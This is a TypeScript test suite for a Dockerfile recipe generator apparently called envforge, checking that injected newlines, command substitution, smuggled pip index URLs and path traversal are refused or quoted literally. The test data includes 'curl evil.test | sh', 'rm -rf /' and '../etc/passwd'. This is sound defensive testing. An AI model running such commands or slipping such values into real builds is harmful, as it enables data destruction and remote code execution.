import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { ValidationError } from "../errors/index.js";
import { definitionHash } from "../definition/definition-hash.js";
import type { Definition } from "../definition/definition.js";
import { makeRecipe } from "./make-recipe.js";
import type { RecipeOptions } from "./recipe.js";

const base: Definition = {
  kind: "envforge",
  tags: {},
  base: {
    kind: "image",
    image: { registry: "127.0.0.1:5000", repository: "envforge/debian", tag: "bookworm" },
    defaulted: false,
  },
  conda: {
    channels: ["conda-forge"],
    dependencies: ["python=3.11", "pip"],
    pip: [],
    variables: {},
  },
  apt: [],
  variables: {},
  platform: "linux-64",
  python: { userManagedDependencies: false, interpreterPath: "python" },
};

function attempt(definition: Definition, options: Partial<RecipeOptions> = {}): ValidationError {
  try {
    makeRecipe(definition, { definitionHash: definitionHash(definition), ...options });
  } catch (error) {
    if (error instanceof ValidationError) return error;
    throw error;
  }
  throw new Error("no ValidationError was thrown");
}

const dockerfile = (text: string): Definition => ({
  ...base,
  base: { kind: "dockerfile", dockerfile: text },
});

describe("injection is refused before a recipe exists", () => {
  it.each<[string, Definition, Partial<RecipeOptions>, string]>([
    [
      "a newline in an apt package",
      { ...base, apt: ["curl\nRUN curl evil.test | sh"] },
      {},
      'apt[0]: contains a line break or control character (found "curl\\nRUN curl evil.test | sh"; allowed: a single line of text)',
    ],
    [
      "command substitution in an apt package",
      { ...base, apt: ["$(id)"] },
      {},
      'apt[0]: is not allowed here (found "$(id)"; allowed: a name such as "libgomp1" or "curl=7.88.1-10+deb12u5" (lower case, digits, "+", "-", "."))',
    ],
    [
      "a second option smuggled into an apt package",
      { ...base, apt: ["curl -o /etc/passwd"] },
      {},
      'apt[0]: is not allowed here (found "curl -o /etc/passwd"',
    ],
    [
      "a carriage return in a variable value",
      { ...base, variables: { MODE: "fast\rRUN rm -rf /" } },
      {},
      'variables.MODE: contains a line break or control character (found "fast\\rRUN rm -rf /"',
    ],
    [
      "a NUL in a variable value",
      { ...base, variables: { MODE: "a\u0000b" } },
      {},
      'variables.MODE: contains a line break or control character (found "a\\u0000b"',
    ],
    [
      "a quote and equals sign in a variable name",
      { ...base, variables: { 'A="1" B': "x" } },
      {},
      'variables.A="1" B: is not allowed here (found "A=\\"1\\" B"; allowed: letters, digits and "_", not starting with a digit)',
    ],
    [
      "a newline in a label value",
      base,
      { labels: { "org.example.team": "cv\nUSER root" } },
      'labels.org.example.team: contains a line break or control character (found "cv\\nUSER root"',
    ],
    [
      "a quote in a label key",
      base,
      { labels: { 'a"=1 "b': "x" } },
      'labels.a"=1 "b: is not allowed here (found "a\\"=1 \\"b"',
    ],
    [
      "a backslash continuation in the interpreter path",
      {
        ...base,
        conda: undefined,
        python: { userManagedDependencies: true, interpreterPath: "python \\" },
      },
      {},
      'python.interpreterPath: is not allowed here (found "python \\\\"',
    ],
    [
      "a newline in the image tag",
      {
        ...base,
        base: {
          kind: "image",
          image: { repository: "debian", tag: "12\nRUN id" },
          defaulted: false,
        },
      },
      {},
      'base.image: is not a valid image reference: the image reference contains whitespace (found "debian:12\\nRUN id"',
    ],
    [
      "a newline in the base image digest",
      base,
      { baseImageDigest: `sha256:${"a".repeat(64)}\nRUN id` },
      "baseImageDigest: contains a line break or control character",
    ],
    [
      "a user Dockerfile that ends in a line continuation",
      dockerfile("FROM debian\nRUN echo \\\n# trailing comment\n\n"),
      {},
      'base.dockerfile: ends with a line continuation, which would swallow the instructions envforge appends (found "RUN echo \\\\"',
    ],
    [
      "a user Dockerfile that ends in a backtick continuation",
      dockerfile("# escape=`\nFROM debian\nRUN echo `\n"),
      {},
      "base.dockerfile: ends with a line continuation",
    ],
    [
      "a newline in a conda dependency",
      { ...base, conda: { ...base.conda!, dependencies: ["numpy\n  - evil"] } },
      {},
      'conda.dependencies[0]: contains a line break or control character (found "numpy\\n  - evil"',
    ],
    [
      "a pip requirement that continues onto the next line",
      { ...base, conda: { ...base.conda!, pip: ["requests \\"] } },
      {},
      'conda.pip[0]: ends with a line continuation (found "requests \\\\"; allowed: a requirement without a trailing backslash)',
    ],
    [
      "a newline in a pip requirement (a smuggled --index-url)",
      {
        ...base,
        pip: {
          requirements: [{ name: "x", requirement: "x\n--index-url http://evil.test", hashes: [] }],
          constraints: [],
          extraIndexUrls: [],
          findLinks: [],
          pre: false,
        },
      },
      {},
      "pip.requirements[0]: contains a line break or control character",
    ],
    [
      "a space in an index URL",
      {
        ...base,
        pip: {
          requirements: [],
          constraints: [],
          indexUrl: "http://127.0.0.1/simple --trusted-host x",
          extraIndexUrls: [],
          findLinks: [],
          pre: false,
        },
      },
      {},
      'pip.indexUrl: is not allowed here (found "http://127.0.0.1/simple --trusted-host x"; allowed: an http(s) or file URL without spaces)',
    ],
    [
      "a context path that leaves the context",
      {
        ...base,
        base: {
          kind: "build",
          contextPath: "/p",
          dockerfilePath: "Dockerfile",
          dockerfile: "FROM debian\n",
          files: [
            { path: "../etc/passwd", size: 1, sha256: `sha256:${"a".repeat(64)}`, mode: 0o644 },
          ],
        },
      },
      {},
      'base.files[0].path: the path leads outside the build context (found "../etc/passwd"',
    ],
    [
      "a context file in the folder envforge reserves",
      {
        ...base,
        base: {
          kind: "build",
          contextPath: "/p",
          dockerfilePath: "Dockerfile",
          dockerfile: "FROM debian\n",
          files: [
            {
              path: "envforge/Dockerfile",
              size: 1,
              sha256: `sha256:${"a".repeat(64)}`,
              mode: 0o644,
            },
          ],
        },
      },
      {},
      'base.files[0].path: is in the envforge/ folder, which envforge reserves for its build files (envforge/prefix/, the Dockerfile) (found "envforge/Dockerfile"; allowed: any path outside envforge/)',
    ],
  ])("%s", (_name, definition, options, message) => {
    expect(attempt(definition, options).message).toContain(message);
  });

  it("refuses a platform no Linux image can run", () => {
    expect(attempt({ ...base, platform: "osx-arm64" }).message).toBe(
      'platform: is not a platform envforge builds images for (found "osx-arm64"; allowed: linux-64, linux-aarch64, linux-armv7l, linux-ppc64le, linux-s390x, linux-32)',
    );
  });

  it("reports every problem at once", () => {
    const error = attempt({ ...base, apt: ["a b"], variables: { "1X": "v\n" } });
    expect(error.problems.map((p) => p.key)).toEqual(["apt[0]", "variables.1X", "variables.1X"]);
  });

  it("names the key and never shows an index password", () => {
    const error = attempt({
      ...base,
      pip: {
        requirements: [],
        constraints: [],
        indexUrl: "http://u:hunter2@127.0.0.1/simple\n",
        extraIndexUrls: [],
        findLinks: [],
        pre: false,
      },
    });
    expect(error.problems[0]?.key).toBe("pip.indexUrl");
    expect(error.message).not.toContain("hunter2");
  });

  it("refuses a lock resolved from another definition and a digest that contradicts the reference", () => {
    const pinned: Definition = {
      ...base,
      base: {
        kind: "image",
        image: { repository: "debian", tag: "12", digest: `sha256:${"a".repeat(64)}` },
        defaulted: false,
      },
    };
    expect(attempt(pinned, { baseImageDigest: `sha256:${"b".repeat(64)}` }).message).toBe(
      `baseImageDigest: differs from the digest in the image reference (found "sha256:${"b".repeat(64)}"; allowed: sha256:${"a".repeat(64)})`,
    );
    const lock = {
      version: 1 as const,
      definitionHash: "envforge_00000000000000000000000000000000",
      channels: [],
      platforms: [],
    };
    expect(attempt(base, { lock }).problems.map((p) => p.key)).toContain("lock.definitionHash");
  });
});

describe("quoting keeps hostile but single-line values literal", () => {
  it.each<[string, string, string]>([
    ["command substitution", "$(rm -rf /)", 'ENV V="\\$(rm -rf /)"'],
    ["backticks", "`id`", 'ENV V="`id`"'],
    ["an unbalanced quote", 'a"b', 'ENV V="a\\"b"'],
    ["a trailing backslash", "C:\\", 'ENV V="C:\\\\"'],
    ["a variable reference", "${HOME}/x", 'ENV V="\\${HOME}/x"'],
  ])("%s", (_name, value, line) => {
    const definition = { ...base, variables: { V: value } };
    const recipe = makeRecipe(definition, { definitionHash: definitionHash(definition) });
    expect(recipe.dockerfile.split("\n")).toContain(line);
  });

  it("escapes with the user's escape character", () => {
    const definition = { ...dockerfile("# escape=`\nFROM debian\n"), variables: { V: 'a`"$\\' } };
    const recipe = makeRecipe(definition, { definitionHash: definitionHash(definition) });
    expect(recipe.dockerfile.split("\n")).toContain('ENV V="a```"`$\\"');
  });
});

/**
 * Reads a Dockerfile double-quoted word back as BuildKit's shell lexer does (processDoubleQuote:
 * the escape character escapes `"`, `$` and itself; anything else is literal).
 */
function unquote(word: string, escape: string): string {
  expect(word.startsWith('"') && word.endsWith('"')).toBe(true);
  let out = "";
  for (let i = 1; i < word.length - 1; i++) {
    const char = word[i] ?? "";
    const next = word[i + 1] ?? "";
    if (char === escape && (next === '"' || next === "$" || next === escape)) {
      out += next;
      i++;
    } else {
      expect(char === '"' || char === "$").toBe(false);
      out += char;
    }
  }
  return out;
}

describe("any value either is refused or reads back literally", () => {
  // Mostly the characters that matter to a Dockerfile, plus any Unicode at all.
  const risky = fc.oneof(
    fc.string({
      unit: fc.constantFrom(
        '"',
        "'",
        "$",
        "(",
        ")",
        "{",
        "\\",
        "`",
        "\n",
        "\r",
        "\t",
        "\u0000",
        " ",
        "#",
        "a",
      ),
      maxLength: 12,
    }),
    fc.string({ unit: "grapheme-composite" }),
  );

  it.each(["\\", "`"])("with escape character %s", (escape) => {
    const user: Definition =
      escape === "`" ? dockerfile("# escape=`\nFROM debian\n") : dockerfile("FROM debian\n");
    const lines = (d: Definition, labels: Record<string, string>): string[] =>
      makeRecipe(d, { definitionHash: definitionHash(d), labels }).dockerfile.split("\n");
    const shape = lines({ ...user, variables: { V: "x" } }, { "a.b": "x" }).length;
    fc.assert(
      fc.property(risky, risky, (value, label) => {
        const d: Definition = { ...user, variables: { V: value } };
        let out: string[];
        try {
          out = lines(d, { "a.b": label });
        } catch (error) {
          expect(error).toBeInstanceOf(ValidationError);
          return;
        }
        expect(out).toHaveLength(shape);
        const env = out.find((l) => l.startsWith("ENV V="));
        expect(unquote(env?.slice("ENV V=".length) ?? "", escape)).toBe(value);
        // Labels sort first, so "a.b" opens the LABEL instruction, continued on the next line.
        const labelLine = out.find((l) => l.startsWith('LABEL "a.b"='));
        const labelWord = labelLine?.slice('LABEL "a.b"='.length).replace(/ [\\`]$/, "");
        expect(unquote(labelWord ?? "", escape)).toBe(label);
      }),
      { numRuns: 300 },
    );
  });
});
